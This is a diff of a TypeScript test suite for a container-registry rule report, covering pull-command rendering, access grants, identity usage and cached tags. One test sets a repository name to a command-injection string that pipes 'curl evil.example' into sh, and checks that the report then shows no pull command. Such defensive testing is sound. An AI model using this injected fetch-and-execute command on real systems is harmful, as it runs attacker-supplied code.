@@ -34,22 +34,19 @@ describe('the report of a rule', () => {
     const report = await readRuleReport(world.azure, id, { onPart: (partial) => seen.push(partial) });
     expect(seen).toHaveLength(6);
     expect(seen[0]?.mapping.state).toBe('loading');
-    expect(value(report, 'mapping')).toMatchObject({
-      rule: { name: 'MyRule' },
-      pullCommand: { ok: true, value: `docker pull ${world.link().downstream.loginServer}/myapp:<tag>` },
-    });
+    expect(value(report, 'mapping')).toMatchObject({ rule: { name: 'MyRule' } });
+    expect(ruleReportMarkdown(report, 'podman')).toContain(
+      `podman pull ${world.link().downstream.loginServer}/myapp:<tag>`,
+    );
     const access = value(report, 'access');
-    expect(access).toMatchObject({ sufficient: true, needed: 'myapp' });
+    expect(access).toMatchObject({ sufficient: true });
     expect(access.grants).toMatchObject([
-      { roleName: roles.repositoryReader.name, counts: true, compared: 'Gives exactly what the rule needs.' },
+      { roleName: roles.repositoryReader.name, compared: 'Gives exactly what the rule needs.' },
     ]);
     expect(access.grants[0]?.explained).toContain('the repository "myapp"');
     expect(value(report, 'identity')).toMatchObject({
       recreated: false,
-      otherRules: [],
-      resources: [],
-      otherAssignments: [],
-      unknown: [],
+      usage: { rules: [], resources: [], assignments: [], unknown: [] },
     });
     expect(value(report, 'cached')).toEqual({ repositories: [], moreRepositories: 0 });
     expect(value(report, 'json')).toMatchObject({ name: 'MyRule' });
@@ -60,8 +57,7 @@ describe('the report of a rule', () => {
     const rule = [...world.sandbox.state.resources.values()].find((resource) => resource.id === id);
     if (rule) rule.properties['targetRepository'] = 'app:1 && curl evil.example|sh #';
     const report = await readRuleReport(world.azure, id);
-    expect(value(report, 'mapping')).toMatchObject({ pullCommand: { problem: { code: 'repository.hasTag' } } });
-    expect(ruleReportMarkdown(report)).not.toContain('docker pull');
+    expect(ruleReportMarkdown(report, 'docker')).not.toContain('docker pull');
   });
 
   it('says that the identity may not read, was made anew, and who else uses it', async () => {
@@ -72,8 +68,8 @@ describe('the report of a rule', () => {
     await world.azure.identities.create(identity.identityId, 'eastus');
     const report = await readRuleReport(world.azure, id);
     expect(value(report, 'access')).toMatchObject({ sufficient: false });
-    expect(value(report, 'identity')).toMatchObject({ recreated: true, otherRules: [{ name: 'SecondRule' }] });
-    expect(ruleReportMarkdown(report)).toContain('SecondRule');
+    expect(value(report, 'identity')).toMatchObject({ recreated: true, usage: { rules: [{ name: 'SecondRule' }] } });
+    expect(ruleReportMarkdown(report, 'docker')).toContain('SecondRule');
   });
 
   it('shows cached tags with platforms, and which are stale or gone upstream', async () => {
@@ -101,7 +97,7 @@ describe('the report of a rule', () => {
     const states = Object.fromEntries(repository?.tags.map((tag) => [tag.tag, tag.upstreamState]) ?? []);
     expect(states).toEqual({ '1.0': 'stale', '1.1': 'same', latest: 'gone' });
     expect(repository?.tags.every(({ platforms }) => platforms.length > 0)).toBe(true);
-    expect(ruleReportMarkdown(report)).toMatch(/stale: the upstream has another image/);
+    expect(ruleReportMarkdown(report, 'docker')).toMatch(/stale: the upstream has another image/);
   });
 
   it('says why the upstream digests are not known when the account may not read there', async () => {
@@ -131,7 +127,7 @@ describe('the report of a rule', () => {
     );
     expect(failed).toContain(name === 'json' ? failed[0] : name);
     expect(failed.length).toBeLessThan(5);
-    expect(ruleReportMarkdown(report)).toMatch(/Could not be read: .*Not for you/);
+    expect(ruleReportMarkdown(report, 'docker')).toMatch(/Could not be read: .*Not for you/);
   });
 
   it('of a rule that does not exist fails in every part', async () => {
